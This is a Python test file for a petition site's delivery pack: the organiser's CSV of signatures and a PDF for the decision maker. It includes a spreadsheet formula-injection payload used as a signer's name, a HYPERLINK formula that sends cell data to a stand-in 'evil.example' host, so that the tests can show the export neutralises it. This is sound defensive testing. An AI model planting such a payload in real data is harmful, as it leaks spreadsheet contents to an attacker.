"""The delivery pack: the PDF for the decision maker and the organiser's CSV of signatures."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zlib

from django.conf import settings
from django.urls import reverse

from tautoko.lib.spreadsheet import FORMULA_TRIGGERS
from tautoko.organise.exports import CSV_HEADER
from tautoko.petitions.models import Petition, Signature
from tests.base import TautokoTestCase

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


class DeliveryTestCase(TautokoTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.petition = self.make_petition(
            title="Kōrero Māori in every school", statement="Because *te reo* matters."
        )
        self.make_signature(
            self.petition,
            state=Signature.State.CONFIRMED,
            name="Aroha Ngata",
            email="aroha@example.org",
            electorate="Te Tai Tokerau",
            notify=True,
        )
        self.make_signature(
            self.petition,
            state=Signature.State.CONFIRMED,
            name=HOSTILE_NAME,
            email="quiet@example.org",
            electorate="+Epsom",
            country="AU",
            notify=False,
        )
        self.make_signature(self.petition, name="Pending Person", email="pending@example.org")
        self.make_signature(
            self.petition,
            state=Signature.State.WITHDRAWN,
            name="Gone Person",
            email="gone@example.org",
        )
        self.work_run()
        self.petition.close(by=self.organiser, reason="delivered")
        self.client.force_login(self.organiser)


class SignaturesCsvTests(DeliveryTestCase):
    def rows(self) -> list[list[str]]:
        response = self.client.get(reverse("organise:signatures-csv", args=[self.petition.slug]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith("text/csv")
        assert "attachment" in response["Content-Disposition"]
        # UTF-8 with a byte-order mark, which Excel needs to read the macrons as such.
        assert response.content.startswith("\ufeff".encode())
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))

    def test_it_lists_confirmed_signers_with_emails_only_where_they_agreed(self) -> None:
        header, *rows = self.rows()
        assert header == CSV_HEADER
        by_electorate = {row[1]: row for row in rows}
        assert len(rows) == 2
        assert by_electorate["Te Tai Tokerau"][0] == "Aroha Ngata"
        assert by_electorate["Te Tai Tokerau"] == [
            "Aroha Ngata",
            "Te Tai Tokerau",
            "aroha@example.org",
            "1",
        ]
        assert by_electorate["'+Epsom"][2] == ""
        body = "\n".join(",".join(row) for row in rows)
        assert "quiet@example.org" not in body
        assert "Pending Person" not in body and "Gone Person" not in body

    def test_each_row_says_which_version_of_the_text_was_signed(self) -> None:
        Signature.objects.filter(name="Aroha Ngata").update(petition_version=2)
        header, *rows = self.rows()
        assert header[-1] == "version signed"
        assert {row[0]: row[-1] for row in rows} == {"Aroha Ngata": "2", "'" + HOSTILE_NAME: "1"}

    def test_no_cell_can_run_as_a_formula(self) -> None:
        _, *rows = self.rows()
        for row in rows:
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS), cell
        assert ["'" + HOSTILE_NAME] in [row[:1] for row in rows]

    def test_a_draft_exports_an_empty_list(self) -> None:
        draft = self.make_petition(state=Petition.State.DRAFT)
        response = self.client.get(reverse("organise:signatures-csv", args=[draft.slug]))
        assert response.content.decode("utf-8-sig").strip() == ",".join(CSV_HEADER)


def pdf_streams(pdf: bytes) -> list[bytes]:
    """The PDF's content streams, inflated.

    fpdf2 ends each stream's data with a bare newline before ``endstream``: a carriage
    return there is the data's own last byte (about one compressed stream in 256 ends with
    one), and taking it for part of the line ending cut the stream short.
    """
    streams = []
    for match in re.finditer(rb"stream\r?\n(.*?)\nendstream", pdf, re.S):
        try:
            streams.append(zlib.decompress(match.group(1)))
        except zlib.error:
            streams.append(match.group(1))
    return streams


class DeliveryPdfTests(DeliveryTestCase):
    def test_it_is_a_pdf_with_the_petition_its_chart_and_its_timeline(self) -> None:
        response = self.client.get(reverse("organise:delivery-pdf", args=[self.petition.slug]))
        assert response.status_code == 200
        assert response["Content-Type"] == "application/pdf"
        pdf = response.content
        assert pdf.startswith(b"%PDF-")
        assert pdf.rstrip().endswith(b"%%EOF")
        assert re.search(rb"/Type\s*/Page\b", pdf)
        # The title is in the document's metadata, in UTF-16 for its macrons.
        title = "Kōrero Māori in every school".encode("utf-16-be").hex().encode()
        assert b"/Title <feff" + title + b">" in pdf
        # The font is embedded, with the map back to Unicode that lets readers copy text.
        assert b"/FontFile2" in pdf
        assert b"/ToUnicode" in pdf
        streams = b"\n".join(pdf_streams(pdf))
        # The growth chart's bars are filled rectangles ("re" then "f").
        assert re.search(rb"re\s+f", streams)
        assert streams.count(b" Tj") > 10

    def test_the_pdf_text_names_the_count_places_and_events(self) -> None:
        # The font's ToUnicode map turns glyph ids back into text, as a reader's copy does.
        response = self.client.get(reverse("organise:delivery-pdf", args=[self.petition.slug]))
        text = pdf_text(response.content)
        assert "Kōrero Māori in every school" in text
        assert "2 confirmed signatures" in text
        assert "Te Tai Tokerau" in text
        assert "Australia" in text
        assert "Closed: delivered" in text

    def test_the_opening_and_closing_dates_are_the_sites_local_days(self) -> None:
        # 12:40 on 11 November 2015 in New Zealand (NZDT) is still 10 November in UTC.
        opened = dt.datetime(2015, 11, 10, 23, 40, tzinfo=dt.UTC)
        closed = dt.datetime(2015, 11, 30, 11, 30, tzinfo=dt.UTC)  # 1 December, 00:30 NZDT
        Petition.objects.filter(id=self.petition.id).update(opened_at=opened, closed_at=closed)
        response = self.client.get(reverse("organise:delivery-pdf", args=[self.petition.slug]))
        assert "Opened 11 November 2015; closed 01 December 2015." in pdf_text(response.content)

    def test_the_pdf_is_in_english_for_an_organiser_who_reads_te_reo_maori(self) -> None:
        self.client.cookies[settings.LANGUAGE_COOKIE_NAME] = "mi"

        response = self.client.get(reverse("organise:delivery-pdf", args=[self.petition.slug]))

        text = pdf_text(response.content)
        assert response.status_code == 200
        assert "Signatures per day (peak" in text
        assert "Closed: delivered" in text
        assert "Kua katia" not in text and "Ngā waitohu" not in text


class DeliveryPdfVersionTests(TautokoTestCase):
    def test_a_changed_petitions_pdf_says_which_version_it_holds_and_where_the_rest_are(
        self,
    ) -> None:
        petition = self.make_petition(state=Petition.State.PENDING, title="Kai for kids")
        petition.approve(by=self.moderator)
        self.client.force_login(self.organiser)
        url = reverse("organise:delivery-pdf", args=[petition.slug])
        assert "version" not in pdf_text(self.client.get(url).content)
        petition.revise(
            by=self.organiser,
            title="Kai for every kid",
            summary=petition.summary,
            statement=petition.statement,
            note="Every kid.",
        )
        text = pdf_text(self.client.get(url).content)
        assert "Kai for every kid" in text
        assert "This is version 2 of the text: it changed after the petition opened." in text
        history = settings.SITE_URL + reverse("petitions:history", args=[petition.slug])
        assert f"Every version, and what changed: {history}" in text
        assert "Text changed: Every kid." in text


def pdf_text(pdf: bytes) -> str:
    """A small text extractor for fpdf2's output: hex glyph strings mapped through ToUnicode."""
    streams = pdf_streams(pdf)
    mapping: dict[str, str] = {}
    for stream in streams:
        for section in re.findall(rb"beginbfchar(.*?)endbfchar", stream, re.S):
            for glyph, code in re.findall(rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", section):
                mapping[glyph.decode().upper()] = bytes.fromhex(code.decode()).decode("utf-16-be")
        for section in re.findall(rb"beginbfrange(.*?)endbfrange", stream, re.S):
            for start, end, code in re.findall(
                rb"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", section
            ):
                first, last, base = int(start, 16), int(end, 16), int(code, 16)
                for offset in range(last - first + 1):
                    mapping[f"{first + offset:04X}"] = chr(base + offset)
    lines = []
    for stream in streams:
        for literal in re.findall(rb"\(((?:\\.|[^\\)])*)\)\s*Tj", stream, re.S):
            glyphs = _literal_unescape(literal)
            lines.append(
                "".join(
                    mapping.get(glyphs[i : i + 2].hex().upper(), "?")
                    for i in range(0, len(glyphs), 2)
                )
            )
    return "\n".join(lines)


_ESCAPES = {b"n": b"\n", b"r": b"\r", b"t": b"\t", b"b": b"\b", b"f": b"\f"}


def _literal_unescape(literal: bytes) -> bytes:
    """The bytes of a PDF literal string: backslash escapes and octal codes undone."""
    out = bytearray()
    index = 0
    while index < len(literal):
        byte = literal[index : index + 1]
        if byte != b"\\":
            out += byte
            index += 1
            continue
        following = literal[index + 1 : index + 2]
        octal = re.match(rb"[0-7]{1,3}", literal[index + 1 : index + 4])
        if octal:
            out.append(int(octal.group(0), 8))
            index += 1 + len(octal.group(0))
        else:
            out += _ESCAPES.get(following, following)
            index += 2
    return bytes(out)
